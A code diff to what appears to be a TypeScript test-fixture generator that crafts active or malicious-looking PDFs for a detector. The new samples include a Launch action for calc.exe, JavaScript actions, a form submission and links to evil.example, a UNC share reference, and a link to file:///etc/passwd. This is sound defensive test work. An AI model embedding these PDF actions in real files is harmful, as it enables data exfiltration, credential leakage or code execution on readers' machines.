@@ -1,16 +1,31 @@
+import { readFile } from "node:fs/promises"
+import { join } from "node:path"
 import { deflateSync } from "node:zlib"
 import { PDFDocument, PDFName, PDFString } from "pdf-lib"
 import { pdf } from "../documents.ts"
 import type { Sample } from "./documents.ts"
 import { oneOf, randomFrom } from "./random.ts"
 
-const page = "3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 420 595]>> endobj\n"
-/** A PDF that a viewer opens, with something in its catalogue and an object 4. */
-function pdfWith(catalogue: string, object: string | Buffer, trailer = ""): Buffer {
-	const head = `%PDF-1.7\n1 0 obj <</Type/Catalog/Pages 2 0 R${catalogue}>> endobj\n2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj\n${page}`
-	const end = `\ntrailer <</Root 1 0 R/Size 5${trailer}>>\nstartxref\n9\n%%EOF`
-	return Buffer.concat([Buffer.from(head, "latin1"), Buffer.from(object), Buffer.from(end, "latin1")])
+/** A PDF that every viewer opens, with something in its catalogue and further objects, the first of them number 4. */
+export function pdfWith(catalogue: string, objects: string | Buffer, trailer = ""): Buffer {
+	const body = Buffer.concat([
+		latin1(`%PDF-1.7\n1 0 obj <</Type/Catalog/Pages 2 0 R${catalogue}>> endobj\n`),
+		latin1("2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj\n"),
+		latin1("3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 420 595]>> endobj\n"),
+		Buffer.from(objects),
+		latin1("\n"),
+	])
+	const offsets = [...body.toString("latin1").matchAll(/(?<=\n)(\d+) 0 obj/g)].map(({ index }) => index)
+	const lines = offsets.map((offset) => `${String(offset).padStart(10, "0")} 00000 n \n`)
+	const size = offsets.length + 1
+	const table = `xref\n0 ${size}\n0000000000 65535 f \n${lines.join("")}`
+	return Buffer.concat([
+		body,
+		latin1(`${table}trailer <</Root 1 0 R/Size ${size}${trailer}>>\nstartxref\n${body.length}\n%%EOF`),
+	])
 }
+
+const latin1 = (text: string) => Buffer.from(text, "latin1")
 
 const opening = (action: string) => pdfWith("/OpenAction 4 0 R", `4 0 obj <</Type/Action${action}>> endobj`)
 
@@ -23,6 +38,12 @@ function spelledInNumbers(text: string, random: () => number): string {
 }
 
 const ACTIONS = [
+	"/S 5 0 R/F(calc.exe)>> endobj\n5 0 obj /Launch endobj\n6 0 obj <<",
+	"/S 5 0 R/JS(x)>> endobj\n5 0 obj /JavaScript endobj\n6 0 obj <<",
+	"/S/GoToR/F(\\\\\\\\evil.example\\\\share)/D[0/Fit]",
+	"/S/SubmitForm/F<</FS/URL/F(https://evil.example)>>",
+	"/S/URI/URI(https://evil.example)",
+	"/S/GoTo/D[3 0 R/Fit]/Next 5 0 R>> endobj\n5 0 obj <</S/URI/URI(https://evil.example)>> endobj\n6 0 obj <<",
 	"/S/JavaScript/JS(app.alert(1))",
 	"/S /JavaScript /JS 5 0 R",
 	"/S%\n/JavaScript/JS<6170702e616c6572742831293b>",
@@ -33,27 +54,52 @@ const ACTIONS = [
 	"/Next<</S/JavaScript/JS(x)>>/S/URI/URI(https://x.example)",
 ]
 
-/** Objects in a packed stream, in all the ways one can be written. */
+/** Object 5 in a packed stream, in all the ways one can be written, found as every reader finds it. */
 function packed(
-	objects: string,
+	object: string,
 	{ entries = "/Filter/FlateDecode", type = "/Type/ObjStm", pack = packedOnce } = {},
-) {
+): Buffer {
 	const first = "5 0 "
-	const content = pack(Buffer.from(first + objects, "latin1"))
-	const dictionary = `4 0 obj <<${type}/N 1/First ${first.length}/Length ${content.length}${entries}>>stream\r\n`
-	return pdfWith(
-		"",
-		Buffer.concat([Buffer.from(dictionary, "latin1"), content, Buffer.from("\nendstream endobj")]),
-	)
+	const content = pack(latin1(first + object))
+	const body = Buffer.concat([
+		latin1("%PDF-1.7\n1 0 obj <</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>> endobj\n"),
+		latin1("2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj\n"),
+		latin1("3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 420 595]>> endobj\n"),
+		latin1(`4 0 obj <<${type}/N 1/First ${first.length}/Length ${content.length}${entries}>>stream\r\n`),
+		content,
+		latin1("\nendstream endobj\n"),
+	])
+	const offset = (number: number) => body.indexOf(`\n${number} 0 obj`, 0, "latin1") + 1
+	const places = [
+		[0, 0, 65535],
+		...[1, 2, 3, 4].map((one) => [1, offset(one), 0]),
+		[2, 4, 0],
+		[1, body.length, 0],
+	]
+	const table = Buffer.concat(places.map(([kind = 0, at = 0, nth = 0]) => place(kind, at, nth)))
+	return Buffer.concat([
+		body,
+		latin1(`6 0 obj <</Type/XRef/Size 7/Root 1 0 R/W[1 4 2]/Length ${table.length}>>stream\r\n`),
+		table,
+		latin1(`\nendstream endobj\nstartxref\n${body.length}\n%%EOF`),
+	])
+}
+
+function place(kind: number, at: number, nth: number): Buffer {
+	const bytes = Buffer.alloc(7)
+	bytes.writeUInt8(kind)
+	bytes.writeUInt32BE(at, 1)
+	bytes.writeUInt16BE(nth, 5)
+	return bytes
 }
 
 const script = "<</S/JavaScript/JS(app.alert(1))>>"
 const packedOnce = (data: Buffer): Buffer => deflateSync(data)
 const hexed = (data: Buffer) => Buffer.from(deflateSync(data).toString("hex"))
 const twice = (data: Buffer) => deflateSync(deflateSync(data))
-const padding = (length: number) => Buffer.alloc(length, "0 ")
+const padding = (length: number) => Buffer.alloc(length, " ")
 const behindMegabytes = (data: Buffer) =>
-	deflateSync(Buffer.concat([data.subarray(0, 4), padding(9_000_000), data]))
+	deflateSync(Buffer.concat([data.subarray(0, 4), padding(9_000_000), data.subarray(4)]))
 
 async function attached(): Promise<Buffer> {
 	const document = await PDFDocument.load(await pdf())
@@ -90,6 +136,19 @@ export async function activePdfs(seed: number): Promise<Sample[]> {
 			"names that lead to scripts",
 			pdfWith("/Names<</JavaScript 4 0 R>>", "4 0 obj <</Names[(a) 5 0 R]>> endobj"),
 		],
+		["files in it, by an indirect name", pdfWith("/X 1/EmbeddedFiles 4 0 R", "4 0 obj <</Names[]>> endobj")],
+		[
+			"a file behind a comment",
+			pdfWith("/X 4 0 R", "4 0 obj <</Type/Filespec/F(a)/EF%\n<</F 5 0 R>>>> endobj"),
+		],
+		[
+			"a link to a file of this machine",
+			pdfWith("/X 4 0 R", "4 0 obj <</S/URI/URI(file:///etc/passwd)>> endobj"),
+		],
+		[
+			"a script in hexadecimal packing",
+			packed(script, { pack: hexed, entries: "/Filter[/ASCIIHexDecode/FlateDecode]" }),
+		],
 		["files in it", pdfWith("/Names<</EmbeddedFiles 4 0 R>>", "4 0 obj <</F(a)/EF<</F 5 0 R>>>> endobj")],
 		["an attachment", pdfWith("", "4 0 obj <</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream endobj")],
 		["a film that runs", pdfWith("", "4 0 obj <</Type/Annot/Subtype/RichMedia>> endobj")],
@@ -112,23 +171,13 @@ export async function activePdfs(seed: number): Promise<Sample[]> {
 	return [...plain, ...spelled, ...(await Promise.all(made))].map((one) => ({ ...one, name: "form.pdf" }))
 }
 
-/** PDFs that nobody can look into. */
-export function lockedPdfs(): Sample[] {
-	const keys = `4 0 obj <</Filter/Standard/V 2/R 3/O<${"00".repeat(32)}>/U<${"00".repeat(32)}>/P -44>> endobj`
-	return [
-		["in its end", pdfWith("", keys, "/Encrypt 4 0 R")],
-		["in its end, spelled in numbers", pdfWith("", keys, "/#45n#63rypt 4 0 R")],
-		["in place", pdfWith("", "", "/Encrypt<</Filter/Standard>>")],
-		["with packed objects", packedAndLocked()],
-	].map(([what, content]) => ({ what: `PDF locked ${what}`, name: "form.pdf", content: content as Buffer }))
+/** PDFs that nobody can look into without their password. */
+export async function lockedPdfs(): Promise<Sample[]> {
+	const names = ["user-password.pdf", "user-password-128.pdf"]
+	return Promise.all(
+		names.map(async (name) => ({ what: `PDF locked, ${name}`, name, content: await keptPdf(name) })),
+	)
 }
 
-/** Encrypted data don't unpack: being locked is what has to be said. */
-function packedAndLocked(): Buffer {
-	const noise = Buffer.from("c0ffee00c0ffee00", "hex")
-	const object = Buffer.concat([
-		Buffer.from("4 0 obj <</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>stream\n"),
-		noise,
-	])
-	return pdfWith("", object, "/Encrypt 5 0 R")
-}
+/** Made by another program than ours, and kept as a file. */
+export const keptPdf = (name: string): Promise<Buffer> => readFile(join(import.meta.dirname, "pdf", name))
